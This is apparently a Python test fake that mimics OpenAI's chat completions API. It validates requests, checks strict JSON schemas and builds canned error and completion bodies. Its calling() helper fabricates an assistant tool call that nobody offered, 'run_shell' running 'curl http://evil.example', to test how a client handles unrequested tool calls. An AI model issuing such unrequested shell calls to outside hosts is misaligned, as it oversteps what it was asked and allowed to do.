"""OpenAI's side of the wire: what `POST /v1/chat/completions` demands and answers."""

from __future__ import annotations

import time
from collections.abc import Mapping

from tests.fakes.model_answers import Json, mapping

_KNOWN = frozenset(
    {
        "model", "messages", "response_format", "max_completion_tokens", "max_tokens", "temperature",
        "top_p", "seed", "reasoning_effort", "user", "metadata", "store", "n", "stream", "service_tier",
    }
)  # fmt: skip
_ERRORS = {
    400: ("invalid_request_error", None),
    401: ("invalid_request_error", "invalid_api_key"),
    403: ("invalid_request_error", "unsupported_country_region_territory"),
    404: ("invalid_request_error", "model_not_found"),
    429: ("requests", "rate_limit_exceeded"),
}


def error(
    status: int, message: str, *, code: str | None = None, kind: str | None = None, param: str | None = None
) -> dict[str, Json]:
    """The body of an error, with the type and code that belong to the status."""
    usual_kind, usual_code = _ERRORS.get(status, ("server_error", None))
    return {
        "error": {
            "message": message,
            "type": kind or usual_kind,
            "param": param,
            "code": code or usual_code,
        }
    }


def problem(body: Mapping[str, Json]) -> tuple[str, str] | None:
    """(parameter, message) of the first thing that OpenAI would refuse, or None."""
    for name in body:
        if name not in _KNOWN:
            return name, f"Unrecognized request argument supplied: {name}"
    if not isinstance(body.get("model"), str) or not body["model"]:
        return "model", "you must provide a model parameter"
    messages = body.get("messages")
    if not isinstance(messages, list) or not messages:
        return "messages", "Invalid 'messages': empty array."
    for index, message in enumerate(messages):
        told = mapping(message)
        if told.get("role") not in {"system", "developer", "user", "assistant"}:
            return f"messages[{index}].role", "Invalid value for 'role'."
        if not isinstance(told.get("content"), str):
            return f"messages[{index}].content", "Invalid type for 'content'."
    tokens = body.get("max_completion_tokens")
    if tokens is not None and (not isinstance(tokens, int) or tokens < 1):
        return "max_completion_tokens", "Invalid 'max_completion_tokens': integer below minimum value."
    return _format_problem(mapping(body.get("response_format")))


def _format_problem(wanted: Mapping[str, Json]) -> tuple[str, str] | None:
    if wanted.get("type", "text") != "json_schema":
        return None
    described = mapping(wanted.get("json_schema"))
    if not isinstance(described.get("name"), str):
        return "response_format.json_schema.name", "Missing required parameter."
    if not described.get("strict"):
        return None
    wrong = _strict_problem(mapping(described.get("schema")), ())
    if wrong is None:
        return None
    return "response_format", f"Invalid schema for response_format '{described['name']}': {wrong}"


def _strict_problem(schema: Mapping[str, Json], path: tuple[str, ...]) -> str | None:
    """OpenAI's strict mode: every object closed, every property required."""
    if not schema:
        return f"In context={path}, schema must have a 'type' key."
    if schema.get("type") == "array":
        return _strict_problem(mapping(schema.get("items")), (*path, "items"))
    if schema.get("type") != "object":
        return None
    if schema.get("additionalProperties") is not False:
        return f"In context={path}, 'additionalProperties' is required to be supplied and to be false."
    properties = mapping(schema.get("properties"))
    required = schema.get("required")
    if not isinstance(required, list) or set(required) != set(properties):
        return f"In context={path}, 'required' is required to be an array including every key in properties."
    for name, value in properties.items():
        wrong = _strict_problem(mapping(value), (*path, "properties", name))
        if wrong is not None:
            return wrong
    return None


def schema_of(body: Mapping[str, Json]) -> Mapping[str, Json]:
    """The schema that the answer has to fit; empty where none was sent."""
    return mapping(mapping(mapping(body.get("response_format")).get("json_schema")).get("schema"))


def completion(
    model: str,
    text: str | None,
    *,
    prompt_tokens: int,
    finish_reason: str = "stop",
    refusal: str | None = None,
) -> dict[str, Json]:
    """A whole answer. 8 of the prompt's tokens come from the cache, 5 of the output are thinking."""
    output = 5 + len(text or refusal or "") // 4
    return {
        "id": "chatcmpl-fake",
        "object": "chat.completion",
        "created": int(time.time()),
        "model": model,
        "choices": [
            {
                "index": 0,
                "message": {"role": "assistant", "content": text, "refusal": refusal, "annotations": []},
                "logprobs": None,
                "finish_reason": finish_reason,
            }
        ],
        "usage": {
            "prompt_tokens": prompt_tokens,
            "completion_tokens": output,
            "total_tokens": prompt_tokens + output,
            "prompt_tokens_details": {"cached_tokens": 8, "audio_tokens": 0},
            "completion_tokens_details": {"reasoning_tokens": 5, "audio_tokens": 0},
        },
        "service_tier": "default",
        "system_fingerprint": "fp_fake",
    }


def calling(model: str, *, prompt_tokens: int) -> dict[str, Json]:
    """A call of a tool that nobody offered."""
    call = {"name": "run_shell", "arguments": '{"command": "curl http://evil.example"}'}
    message: Json = {
        "role": "assistant",
        "content": None,
        "tool_calls": [{"id": "c", "type": "function", "function": call}],
    }
    choice: Json = {"index": 0, "message": message, "finish_reason": "tool_calls"}
    return completion(model, None, prompt_tokens=prompt_tokens) | {"choices": [choice]}
